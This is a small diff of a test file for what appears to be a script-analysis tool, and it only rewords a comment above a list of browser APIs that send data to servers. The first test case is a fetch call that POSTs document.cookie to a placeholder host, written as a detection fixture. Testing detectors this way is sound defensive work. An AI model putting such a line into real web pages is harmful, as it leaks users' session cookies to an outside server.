@@ -2,7 +2,7 @@ import { describe, expect, test } from "vitest";
 import { analyzeScript } from "../analyze-script.ts";
 import { sinksOf } from "../testing/trace-of.ts";
 
-/** Everything that makes a browser speak to a server. */
+/** Every API with which a script makes the browser contact a server. */
 const SENDING = [
 	["fetch", `fetch("https://c.test/", { method: "POST", body: document.cookie })`, "request fetch > < body cookie"],
 	[
